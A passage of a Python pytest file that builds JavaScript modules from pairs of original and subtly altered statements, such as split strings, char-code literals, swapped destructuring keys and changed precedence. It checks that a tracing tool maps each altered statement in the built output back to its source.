    "a variable that is used once under a condition": ("const c = a(); return b && c", "return b && a()"),
    "a variable that is used once after await": ("return (async () => { const c = a.d; await b(); return c })()", "return (async () => { await b(); return a.d })()"),
    "a variable that is written once more": ("let c = a; b(() => { c = 1 }); return c", "b(() => { let c = 1 }); return a"),
    "a declaration deeper": ("let c = 1; if (a) { c = 2 } return c", "let c = 1; if (a) { let c = 2 } return c"),
    "var for let in a loop": ("for (let c = 0; c < a; c++) b(() => c)", "for (var c = 0; c < a; c++) b(() => c)"),
    "a text in pieces": ("return a === 'secret'", "return a === 'sec' + 'rets'"),
    "another text by its codes": ("return a(b, 'x')", "return a(b, String.fromCharCode(121))"),
    "a key of a pattern": ("const { c, d } = a; return c", "const { d: c, c: d } = a; return c"),
    "a default of a pattern": ("const { c = 1 } = a; return c", "const { c = 2 } = a; return c"),
    "a hole": ("const [, c] = a; return c", "const [c] = a; return c"),
    "the target of new": ("return function () { return new.target }", "return function () { return this }"),
    "import.meta": ("return import.meta.url", "return import.meta.filename"),
    "a comma": ("return a(b), 1", "return a((b, 1))"),
    "precedence": ("return a && (b || 1)", "return a && b || 1"),
    "a sum": ("return 1 + 2 + a", "return 1 + (2 + a)"),
    "a shift": ("return a >> 2", "return a >>> 2"),
    "debugger": ("a(1)", "debugger; a(1)"),
}  # fmt: skip


def functions(number: int) -> tuple[str, list[range]]:
    """Return a module of all statements, the genuine ones or the others, and the lines of each."""
    text, lines = "", []
    for at, pair in enumerate(STATEMENTS.values()):
        first = text.count("\n") + 1
        text += f"export function f{at}(a, b) {{ a('case {at}'); {pair[number]} }}\n"
        lines.append(range(first, text.count("\n") + 1))
    return text, lines


@pytest.fixture(scope="session")
def shown(desk) -> Mapping[str, list[bool]]:
    """Trace the module of all the other statements to that of the genuine ones; say of each whether it is shown."""
    sources = {"src/a.js": functions(0)[0]}
    text, lines = functions(1)
    found = {}
    for way in WAYS:
        assert desk.clean(way, sources["src/a.js"], sources, {})
        result = desk.trace(way, text, sources, {})["dist/index.js"]
        assert isinstance(result, Traced)
        found[way] = [any(piece.first in one or piece.last in one for piece in result.pieces) for one in lines]
    return found


@pytest.mark.parametrize("way", WAYS)
@pytest.mark.parametrize("name", STATEMENTS)
def test_what_a_statement_does_is_held_to_its_source(shown, way, name):
    assert shown[way][list(STATEMENTS).index(name)]
